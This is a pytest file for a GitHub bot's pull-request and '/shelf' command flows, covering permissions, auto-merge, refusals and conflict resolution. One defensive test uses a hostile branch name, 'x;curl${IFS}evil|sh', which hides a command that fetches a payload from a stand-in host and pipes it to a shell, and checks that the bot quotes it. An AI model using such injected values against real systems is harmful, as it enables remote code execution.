"""The agent-branch and `/shelf` command flows' decisions, in-process against the recording fake:
one pull request per branch (also after a lost create race), labels and the commit status on the
pushed commit, auto-merge armed, merged-now or refused, GitHub refusing to open; commands only
from writers, never from bots, withdrawn when their comment is gone."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from bot import pulls
from bot.flows import commands, open_pr
from bot.port import (
    AutoMergeAnswer,
    AutoMergeResult,
    Permission,
    PortError,
    PullState,
    Reaction,
    Reason,
    StatusState,
)
from tests.action_harness import episode
from tests.fakegh import World, ran

UPS = "docs/topics/2026-09-22-ups-runtime.md"
NAS = "docs/topics/2026-09-23-nas.md"


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World.make(tmp_path)


def push(world: World, branch: str, files: dict[str, str | None], **kw: object) -> tuple[int, object]:
    try:
        before = world.gh.branch_sha(branch)
    except PortError:
        before = "0" * 40
    after = world.commit(branch, files)
    job = world.job(world.push_event(branch, before, after), **kw)
    return ran(open_pr.run, job, branch), job


def test_a_push_opens_one_pull_request_with_labels_status_and_a_second_push_updates_it(world: World) -> None:
    code, job = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")})
    assert code == 0
    [pull] = world.gh.pulls.values()
    assert pull.title == "UPS runtime" and "memshelf-bot" in pull.body and pull.labels == (pulls.EPISODE_LABEL,)
    [(sha, status)] = world.gh.statuses
    assert sha == world.gh.branch_sha("night-shift/ups") and status.state is StatusState.SUCCESS
    assert status.context == pulls.STATUS_CONTEXT and job.reporter.outputs["pr_number"] == str(pull.number)
    code, job = push(world, "night-shift/ups", {NAS: episode("2026-09-23-nas")})
    assert code == 0 and len(world.gh.pulls) == 1
    assert "Updated pull request #1 (body and title)." in job.reporter.summary_text()


def test_a_create_that_lost_the_race_uses_the_other_runs_pull_request(world: World) -> None:
    world.commit("night-shift/race", {UPS: episode("2026-09-22-ups-runtime")}, base="main")
    theirs = world.gh.add_pull("night-shift/race", title="theirs")
    listed = world.gh.open_pulls
    answers = [(), (theirs,)]
    world.gh.open_pulls = lambda branch, base=None: answers.pop(0) if answers else listed(branch, base)  # type: ignore[method-assign]
    world.gh.refuse("open_pull", Reason.ALREADY_EXISTS, "A pull request already exists for octo:night-shift/race.")
    pull, opened = pulls.find_or_open(world.gh, "night-shift/race", "main", "t", "b", sleep=lambda s: None)
    assert pull.number == theirs.number and opened is False and len(world.gh.pulls) == 1


def test_an_invalid_branch_fails_its_status_and_is_labelled_invalid_until_fixed(world: World) -> None:
    broken = episode("2026-09-23-nas").replace("tags: [homelab]\n", "")
    code, _ = push(world, "night-shift/nas", {NAS: broken})
    [pull] = world.gh.pulls.values()
    assert code == 1 and world.gh.statuses[-1][1].state is StatusState.FAILURE
    assert pulls.INVALID_LABEL in world.gh.pulls[pull.number].labels
    code, _job = push(world, "night-shift/nas", {NAS: episode("2026-09-23-nas")})
    assert code == 0 and pulls.INVALID_LABEL not in world.gh.pulls[pull.number].labels
    assert world.gh.statuses[-1][1].state is StatusState.SUCCESS


@pytest.mark.parametrize("answer, remark", [
    (AutoMergeAnswer.ENABLED, "Auto-merge is on"),
    (AutoMergeAnswer.NOT_ALLOWED, "this repository does not allow auto-merge"),
    (AutoMergeAnswer.CONFLICT, "this branch conflicts with `main`"),
])
def test_auto_merge_answers_are_said_in_the_comment_and_are_no_failure(world: World, answer: AutoMergeAnswer,
                                                                       remark: str) -> None:
    world.gh.auto_merge_answers = [AutoMergeResult(answer, "GitHub's words")]
    code, job = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")}, auto_merge=True)
    assert code == 0 and remark in job.reporter.summary_text()


def test_auto_merge_with_nothing_to_wait_for_merges_now_and_renders_main(world: World) -> None:
    world.gh.auto_merge_answers = [AutoMergeResult(AutoMergeAnswer.CLEAN, "clean status")]
    code, job = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")}, auto_merge=True)
    assert code == 0 and world.gh.ops("merge")
    main = world.gh.branch_sha("main")
    assert job.reporter.outputs["commit_sha"] == main and "INDEX.md" in world.gh.ops("create_commit")[0][1][2]


def test_auto_merge_off_never_asks_github(world: World) -> None:
    code, _ = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")})
    assert code == 0 and not world.gh.ops("enable_auto_merge", "disable_auto_merge", "merge")
    assert not world.gh.pulls[1].auto_merge and not world.gh.pulls[1].merged


def test_when_github_will_not_open_the_pull_request_the_run_says_how_to_allow_it(world: World) -> None:
    world.gh.refuse("open_pull", Reason.FORBIDDEN, "GitHub Actions is not permitted to create or approve pull requests.")
    code, job = push(world, "night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")})
    assert code == 1 and not world.gh.pulls and world.gh.statuses
    assert "Allow GitHub Actions to create and approve pull requests" in job.reporter.summary_text()


# /shelf commands ------------------------------------------------------------------------------


def command(world: World, body: str, author: str = "octo-maintainer", permission: Permission = Permission.WRITE):
    world.commit("night-shift/ups", {UPS: episode("2026-09-22-ups-runtime")}, base="main")
    pull = world.gh.add_pull("night-shift/ups")
    world.gh.permissions[author] = permission
    event = world.comment_event(pull, body, author)
    job = world.job(event)
    return ran(commands.run, job), job, event


def test_help_is_answered_for_anyone_with_eyes_then_a_rocket(world: World) -> None:
    code, _job, event = command(world, "/shelf help", permission=Permission.READ)
    assert code == 0
    assert world.gh.reactions == [(event.comment_id, Reaction.SEEN), (event.comment_id, Reaction.DONE)]
    [reply] = [c for c in world.gh.comments_on[1] if c.author == "github-actions[bot]"]
    assert "/shelf resolve" in reply.body


def replies(world: World, number: int = 1) -> list[str]:
    return [c.body for c in world.gh.comments_on.get(number, []) if c.author == "github-actions[bot]"]


def test_a_reader_may_not_resolve_whatever_the_event_claims(world: World) -> None:
    head = world.gh.branch_sha("main")
    code, _, event = command(world, "/shelf resolve", author="curious-reader", permission=Permission.READ)
    assert code == 0 and world.gh.ops("permission") == [("permission", ("curious-reader",))]
    assert world.gh.reactions == [(event.comment_id, Reaction.SEEN), (event.comment_id, Reaction.FAILED)]
    assert replies(world) == ["😕 `/shelf resolve` changes branches, so it needs write access to "
                              "the repository; curious-reader has `read`. Nothing was changed."]
    assert world.gh.branch_sha("main") == head and not world.gh.ops("create_commit")


def test_unknown_commands_get_the_list_and_help_is_case_and_space_tolerant(world: World) -> None:
    code, _, event = command(world, "/shelf rebase please")
    assert code == 0 and world.gh.reactions[-1] == (event.comment_id, Reaction.FAILED)
    [reply] = replies(world)
    assert reply.startswith("😕 I don't know `/shelf rebase`.\n\nmemshelf-bot answers these commands")
    assert "| `/shelf resolve` |" in reply and "| `/shelf render` |" in reply
    helped = world.comment_event(world.gh.pulls[1], "  /SHELF help\nthanks!")
    assert ran(commands.run, world.job(helped)) == 0
    assert replies(world)[-1].startswith("memshelf-bot answers these commands")
    assert world.gh.reactions[-2:] == [(helped.comment_id, Reaction.SEEN), (helped.comment_id, Reaction.DONE)]


def test_resolve_refuses_a_fork_branch_and_a_closed_pull_request(world: World) -> None:
    command(world, "/shelf help")
    pull = world.gh.pulls[1]
    world.gh.pulls[1] = replace(pull, head_repo="outsider/shelf", head_label="outsider:patch-1")
    assert ran(commands.run, world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
    assert replies(world)[-1].startswith(
        "😕 `/shelf resolve` cannot work on this pull request: its branch lives in a fork (outsider:patch-1), and "
        "this job's token can only write to octo/shelf. Nothing was pushed.")
    world.gh.pulls[1] = replace(pull, state=PullState.CLOSED)
    assert ran(commands.run, world.job(world.comment_event(world.gh.pulls[1], "/shelf resolve"))) == 0
    assert replies(world)[-1].startswith("😕 `/shelf resolve` cannot work on this pull request: the pull request is "
                                         "closed. Nothing was pushed.")
    assert not world.gh.ops("create_commit")


def test_a_bots_command_and_a_plain_comment_are_ignored_without_a_word(world: World) -> None:
    for body, author in (("/shelf resolve", "renovate[bot]"), ("looks good", "octo-maintainer")):
        world.gh.calls.clear()
        code, job, _ = command(world, body, author=author)
        assert code == 0 and not world.gh.reactions and world.gh.calls == []  # not even a read
        assert "Nothing to do" in job.reporter.summary_text()
    assert "ignoring a /shelf command from a bot (renovate[bot])" in world.out.getvalue()


def test_a_command_whose_comment_is_gone_is_withdrawn(world: World) -> None:
    world.gh.refuse("react", Reason.NOT_FOUND)
    code, _, _ = command(world, "/shelf resolve")
    assert code == 0 and "its comment was deleted before the bot could act" in world.out.getvalue()
    assert [op for op, _ in world.gh.calls] == ["react"] and replies(world) == []


def test_the_manual_steps_quote_a_hostile_branch_name() -> None:
    from bot.flows.resolve_pr import Settlement, SettlementOutcome
    from bot.port import PullRequest, PullState
    from memshelf_render.resolve import ResolveResult

    pull = PullRequest(1, PullState.OPEN, "t", "", "x;curl${IFS}evil|sh", "a" * 40, "octo/shelf", "octo:x", "main",
                       "b" * 40)
    reply = commands.resolve_reply(Settlement(SettlementOutcome.NEEDS_HUMAN, "a" * 40, "b" * 40,
                                              result=ResolveResult()),
                                   pull, "")
    assert "git switch 'x;curl${IFS}evil|sh'" in reply


def test_resolve_from_a_writer_settles_derived_conflicts_in_one_merge_commit(world: World) -> None:
    world.commit("night-shift/ups", {UPS: episode("2026-09-22-ups-runtime"), "INDEX.md": "# branch's\n"},
                 base="main")
    pull = world.gh.add_pull("night-shift/ups")
    head = pull.head_sha
    world.commit("main", {NAS: episode("2026-09-23-nas"), "INDEX.md": "# main's\n"})
    world.gh.permissions["octo-maintainer"] = Permission.WRITE
    job = world.job(world.comment_event(pull, "/shelf resolve"), restore_derived=False)  # the merge alone
    assert ran(commands.run, job) == 0
    pushed = world.gh.branch_sha("night-shift/ups")
    assert pushed != head and job.reporter.outputs["commit_sha"] == pushed
    parents = world.show(pushed, "INDEX.md")
    assert "UPS runtime" in parents and "# branch's" not in parents  # regenerated from the merged episodes
    [reply] = [c.body for c in world.gh.comments_on[pull.number] if c.author == "github-actions[bot]"
               and c.body.startswith("🚀")]
    assert "Merged `main`" in reply and f"in one commit, `{pushed[:12]}`, on top of `{head[:12]}`" in reply
    assert world.gh.reactions[-1][1] is Reaction.DONE
